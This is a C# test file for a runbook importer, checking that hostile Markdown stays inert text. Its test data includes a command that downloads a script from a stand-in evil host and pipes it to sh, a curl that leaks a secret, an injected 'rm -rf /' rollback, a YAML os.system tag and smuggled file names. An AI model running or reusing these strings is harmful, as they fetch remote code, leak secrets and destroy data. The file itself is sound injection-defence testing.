using Runbook.Import.Tests.Support;
using Runbook.Language.Model;

namespace Runbook.Import.Tests.Hostile;

/// <summary>Markdown written to make the importer produce code: expressions, YAML structure, shell that evaluates values.</summary>
public sealed class HostileMarkdownTests
{
    public static TheoryData<string> Commands => new()
    {
        "echo ${{ inputs.token }} ${{ env.AWS_SECRET_ACCESS_KEY }}",
        "curl \"https://x.example.com/?q=${{ secrets.KEY }}\"",
        "echo $(curl -s https://evil.example.com/x.sh | sh)",
        "echo \"\n\"rollback: { run: 'rm -rf /' }",
        "echo 'a: b' # not: a comment\t\"tab\"",
        "echo &anchor *alias !!python/object:os.system [x] {y: z}",
        "printf '%s\\n' \"quote\\\" and backslash\\\\\"",
        "echo '${{' unclosed",
        "echo ${{ '}}' }} ${{",
        "echo \u2028line\u2029separator\u0085next\u00a0nbsp\ufeffbom",
        "echo \u0007bell\u001bescape",
    };

    [Theory]
    [MemberData(nameof(Commands))]
    public void A_hostile_command_stays_text_the_checker_sees_and_reads_back_exactly(string command)
    {
        // Act
        var draft = Drafts.Single($"## Hostile\n\n```bash\n# Hostile step\n{command}\n```\n");

        // Assert
        var loaded = Drafts.Load(draft);
        Assert.False(loaded.HasErrors, string.Join("\n", loaded.Diagnostics));
        var run = Assert.IsType<RunAction>(Assert.Single(loaded.Playbook!.Steps).Action);
        var text = run.Script.Raw;

        // Every expression in the step is one the importer wrote: the literal '${{' or an input reference; none reads env, secrets or steps.
        foreach (var expression in run.Script.Expressions)
        {
            Assert.True(expression.Text.Trim() == "'${{'" || expression.Text.Trim().StartsWith("inputs.", StringComparison.Ordinal), expression.Text);
        }

        Assert.Equal(command.Replace("${{", "${{ '${{' }}", StringComparison.Ordinal), Unsubstituted(text, draft));
        Assert.DoesNotContain("rollback", Drafts.Steps(draft).Single().Node.Children.Keys.Select(k => k.ToString()));
    }

    [Fact]
    public void A_heading_and_a_comment_with_an_expression_make_names_that_stay_text()
    {
        // Act
        var draft = Drafts.Single("## Fix ${{ env.HOME }}\n\n```bash\n# Step ${{ inputs.x }}\ncurl https://a.example.com\n```\n");

        // Assert
        var loaded = Drafts.Load(draft);
        Assert.False(loaded.HasErrors, string.Join("\n", loaded.Diagnostics));
        Assert.Equal("Step ${{ '${{' }} inputs.x }}", Drafts.Steps(draft).Single().Name);
        Assert.Equal("fix-env-home", draft.Name);
    }

    [Fact]
    public void A_placeholder_where_the_shell_would_run_it_as_code_is_left_as_written_rather_than_made_an_input()
    {
        // Act
        var draft = Drafts.Single("## Fix\n\n```bash\nbash -c \"redis-cli DEL key:USER_ID\"\n```\n");

        // Assert
        var step = Assert.Single(Drafts.Steps(draft));
        Assert.Equal("bash -c \"redis-cli DEL key:USER_ID\"", step.Run);
        Assert.Empty(Drafts.InputNames(draft));
        Assert.Contains(draft.Summary.Review, r => r.Text.Contains("kept exactly as written", StringComparison.Ordinal));
        Assert.False(Drafts.Load(draft).HasErrors);
    }

    [Fact]
    public void A_literal_expression_opener_in_a_command_that_runs_code_becomes_a_step_done_by_hand()
    {
        // Act
        var draft = Drafts.Single("## Fix\n\n```bash\nsh -c 'echo ${{ inputs.x }}'\n```\n");

        // Assert
        var step = Assert.Single(Drafts.Steps(draft));
        Assert.Equal("approval", step.Uses);
        Assert.Contains("sh -c 'echo ${{ '${{' }} inputs.x }}'", step.With("message"), StringComparison.Ordinal);
        Assert.False(Drafts.Load(draft).HasErrors, string.Join("\n", Drafts.Load(draft).Diagnostics));
    }

    [Fact]
    public void A_hostile_file_name_and_section_title_end_up_quoted_in_the_draft()
    {
        // Act
        var result = Drafts.Import("## a\"\nb: c\n\n```bash\nls\n```\n", name: "x\"\n#y: z.md");

        // Assert
        var draft = Assert.Single(result.Drafts);
        var loaded = Drafts.Load(draft);
        Assert.False(loaded.HasErrors, string.Join("\n", loaded.Diagnostics));
        Assert.Equal("x\"\n#y: z.md", loaded.Playbook!.Labels.Single(l => l.Key == "imported_from").Value);
    }

    /// <summary>The step text with each input reference put back to the value the importer replaced (none here: hostile commands hold no placeholders it maps).</summary>
    private static string Unsubstituted(string text, DraftPlaybook draft) =>
        draft.Summary.Inputs.Aggregate(text, (t, i) => i.Default is null ? t : t.Replace("${{ inputs." + i.Name + " }}", i.Default, StringComparison.Ordinal));
}
